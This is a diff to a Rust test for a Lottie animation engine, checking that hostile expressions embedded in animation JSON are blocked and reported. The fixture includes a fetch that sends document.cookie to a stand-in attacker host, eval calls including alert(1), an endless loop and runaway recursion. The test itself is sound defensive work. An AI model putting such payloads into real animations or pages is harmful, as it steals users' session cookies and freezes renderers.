@@ -161,14 +161,16 @@ fn a_billion_frames_and_huge_numbers_draw_within_the_budget() {
 
 #[test]
 fn hostile_expressions_reach_nothing_and_fall_back() {
-    // lottie-web would eval these. The engine has no `fetch`, `document`,
-    // `window` or `eval`, and aborts loops and recursion past its budget:
+    // lottie-web would eval these. The engine has no `fetch`, `document`
+    // or `window`, its `eval` only looks up name paths in the animation
+    // (`document.cookie` is none: an abort), and it aborts loops and
+    // recursion past its budget:
     // each property is drawn without its expression, and the report says
     // why. Two layers whose positions read each other stop at the cycle.
     let json = r#"{"w":100,"h":100,"fr":30,"ip":0,"op":10,"layers":[
         {"ty":4,"nm":"Trap","ip":0,"op":10,"st":0,
          "ks":{"p":{"k":[50,50],"x":"fetch('https://evil.example/?'+document.cookie); [0,0]"},
-               "o":{"k":100,"x":"eval(atob('YWxlcnQoMSk=')); 100"},
+               "o":{"k":100,"x":"eval('document.cookie'); eval('alert(1)'); 100"},
                "r":{"k":0,"x":"var i = 0; while (true) { i++; } i"},
                "s":{"k":[100,100],"x":"function f(n) { return f(n + 1); } f(0)"}},
          "shapes":[{"ty":"rc","p":{"k":[0,0]},"s":{"k":[10,10]},"r":{"k":0}},{"ty":"fl","c":{"k":[1,0,0,1]},"o":{"k":100}}]},
@@ -198,7 +200,12 @@ fn hostile_expressions_reach_nothing_and_fall_back() {
         "{}",
         why("ks.p")
     );
-    assert!(why("ks.o").contains("Eval"), "{}", why("ks.o"));
+    // (The lookup names what it did not find.)
+    assert!(
+        why("ks.o").contains("`document` is not supported"),
+        "{}",
+        why("ks.o")
+    );
     assert!(why("ks.r").contains("out of steps"), "{}", why("ks.r"));
     assert!(why("ks.s").contains("TooDeep"), "{}", why("ks.s"));
 }
